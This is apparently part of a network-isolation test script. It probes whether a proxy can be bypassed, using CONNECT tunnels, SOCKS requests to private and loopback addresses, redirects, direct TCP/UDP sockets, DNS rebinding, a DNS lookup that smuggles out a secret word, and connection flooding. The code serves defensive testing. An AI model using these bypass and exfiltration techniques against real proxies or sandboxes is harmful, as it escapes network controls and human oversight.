# The ways out: what the proxy is asked for, and what is tried past it. Each attempt names its attack in
# the request, so that a listener that is reached can tell.



PROXY = os.environ.get("http_proxy") or P.get("proxy")


def proxied():
    if not PROXY:
        raise ConnectionRefusedError(errno.ECONNREFUSED, "there is no proxy")
    host, _, port = PROXY.rpartition("//")[2].rstrip("/").rpartition(":")
    return socket.create_connection((host, int(port)), 10)


def answer_to(sock):
    data = b""
    while b"\r\n" not in data:
        part = sock.recv(4096)
        if not part:
            break
        data += part
    return data.split(b"\r\n")[0].decode("latin-1", "replace"), data.decode("latin-1", "replace")


def word_of(status):
    parts = status.split(" ")
    code = parts[1] if len(parts) > 1 else ""
    return "done" if code == "200" else "HTTP " + (code or "nothing")


def get(authority, attack_id, path="", host=None):
    """A request in absolute form, as clients send it to a proxy."""
    with proxied() as sock:
        request = "GET http://%s/%s%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
        sock.sendall((request % (authority, path, attack_id, host or authority)).encode())
        return word_of(answer_to(sock)[0])


def connect(authority, attack_id):
    """A tunnel, and the request through it."""
    with proxied() as sock:
        sock.sendall(("CONNECT %s HTTP/1.1\r\nHost: %s\r\n\r\n" % (authority, authority)).encode())
        word = word_of(answer_to(sock)[0])
        if word == "done":
            sock.sendall(("GET /%s HTTP/1.0\r\n\r\n" % attack_id).encode())
            answer_to(sock)
        return word


def socks(kind, address, port, attack_id):
    with proxied() as sock:
        sock.sendall(b"\5\1\0")
        if sock.recv(2) != b"\5\0":
            return "no SOCKS"
        sock.sendall(b"\5\1\0" + bytes([kind]) + address + struct.pack(">H", port))
        answer = sock.recv(10)
        if answer[1:2] != b"\0":
            return "SOCKS %d" % (answer[1] if len(answer) > 1 else -1)
        sock.sendall(("GET /%s HTTP/1.0\r\n\r\n" % attack_id).encode())
        answer_to(sock)


def follow(attack_id):
    """Goes where a page sends it, as every client does."""
    with proxied() as sock:
        sock.sendall(("GET http://%s/redirect/%s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n"
                      % (P["public"], attack_id, P["public"])).encode())
        text = answer_to(sock)[1]
        while "\r\n\r\n" not in text:
            text += sock.recv(4096).decode("latin-1")
    for line in text.split("\r\n"):
        if line.lower().startswith("location: http://"):
            return get(line[17:].partition("/")[0], attack_id)
    return "no redirect: " + text[:60]


def straight(family, address, attack_id, kind=socket.SOCK_STREAM):
    """Past the proxy."""
    with socket.socket(family, kind) as sock:
        sock.settimeout(3)
        sock.connect(address)
        sock.send(("GET /%s HTTP/1.0\r\n\r\n" % attack_id).encode())
        if kind == socket.SOCK_STREAM:
            sock.recv(100)


# What everybody may reach must be reached, or the refusals below prove nothing.
say("N00.address", word_for(lambda: get(P["public"], "N00.address")))
say("N00.name", word_for(lambda: get("public.attack.test", "N00.name")))

for attack_id, how, *what in P["destinations"]:
    if how == "get":
        attempt(attack_id, lambda: get(what[0], attack_id), seconds=12)
    elif how == "connect":
        attempt(attack_id, lambda: connect(what[0], attack_id), seconds=12)
    elif how == "tcp":
        attempt(attack_id, lambda: straight(socket.AF_INET, (what[0], what[1]), attack_id))
    elif how == "tcp6":
        attempt(attack_id, lambda: straight(socket.AF_INET6, (what[0], what[1]), attack_id))
    elif how == "udp":
        attempt(attack_id, lambda: straight(socket.AF_INET, (what[0], what[1]), attack_id, socket.SOCK_DGRAM))
    elif how == "udp6":
        attempt(attack_id, lambda: straight(socket.AF_INET6, (what[0], what[1]), attack_id, socket.SOCK_DGRAM))

PRIVATE = socket.inet_aton("10.1.2.3")
attempt("N09.socks-private", lambda: socks(1, PRIVATE, 80, "N09.socks-private"))
attempt("N09.socks-loopback", lambda: socks(1, socket.inet_aton("127.0.0.1"), 80, "N09.socks-loopback"))
attempt("N09.socks-v6", lambda: socks(4, socket.inet_pton(socket.AF_INET6, "fd00:ec2::254"), 80, "N09.socks-v6"))
attempt("N09.socks-mapped", lambda: socks(
    4, socket.inet_pton(socket.AF_INET6, "::ffff:10.1.2.3"), 80, "N09.socks-mapped"))
attempt("N09.socks-name", lambda: socks(3, b"\x13private.attack.test", 80, "N09.socks-name"))
attempt("N09.socks-number-name", lambda: socks(3, b"\x0a2852039166", 80, "N09.socks-number-name"))
attempt("N09.redirect", lambda: follow("N09.redirect"), seconds=15)


@attack("N05.name-rebind", seconds=40)
def _():
    # Often enough to meet both answers in either order.
    words = {get("rebind.attack.test", "N05.name-rebind", "%d/" % turn) for turn in range(12)}
    return " ".join(sorted(words))


@attack("N07.resolver")
def _():
    socket.getaddrinfo("N07_resolver.secret-word-to-be-told.attack.test", 80)


@attack("N11.connections", seconds=40)
def _():
    sockets = []
    for _ in range(150):
        try:
            sock = proxied()
            sock.sendall(("GET http://%s/N11.connections HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n"
                          % P["public"]).encode())
            sockets.append(sock)
        except OSError:
            break
    time.sleep(4)
    return "%d opened" % len(sockets)
